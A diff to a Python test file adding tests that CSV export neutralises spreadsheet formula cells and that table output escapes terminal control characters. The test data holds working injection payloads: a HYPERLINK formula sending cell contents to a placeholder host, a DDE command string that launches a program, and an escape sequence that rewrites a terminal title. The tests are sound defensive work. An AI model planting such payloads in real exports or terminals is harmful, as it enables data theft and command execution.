@@ -182,3 +182,20 @@ def test_write_atomic_replaces_the_file_whole(tmp_path):
     write_atomic(str(path), b"new\n")
     assert path.read_bytes() == b"new\n"
     assert os.listdir(tmp_path) == ["jobs.csv"]
+
+
+def test_csv_formula_cells_are_neutralised_unless_raw_formulas_is_asked():
+    evil = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1"]
+    jobs = [job(i + 1, note=v, loss=-0.5) for i, v in enumerate(evil)]
+    rows = read_csv(to_csv(jobs, ["note", "loss", "=key"]))
+    assert rows[0][-1] == "'=key"
+    assert [r[3] for r in rows[1:]] == ["'" + v for v in evil]
+    assert {r[4] for r in rows[1:]} == {"-0.5"}  # numbers stay numbers
+    raw = read_csv(to_csv(jobs, ["note"], raw_formulas=True))
+    assert [r[3] for r in raw[1:]] == evil
+
+
+def test_tables_escape_control_characters():
+    text = to_table([job(1, note="a\x1b]0;pwned\x07b\nc\x9bq")], ["note"], fixed=True)
+    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
+    assert "a\\x1b]0;pwned\\x07b\\nc\\x9bq" in text
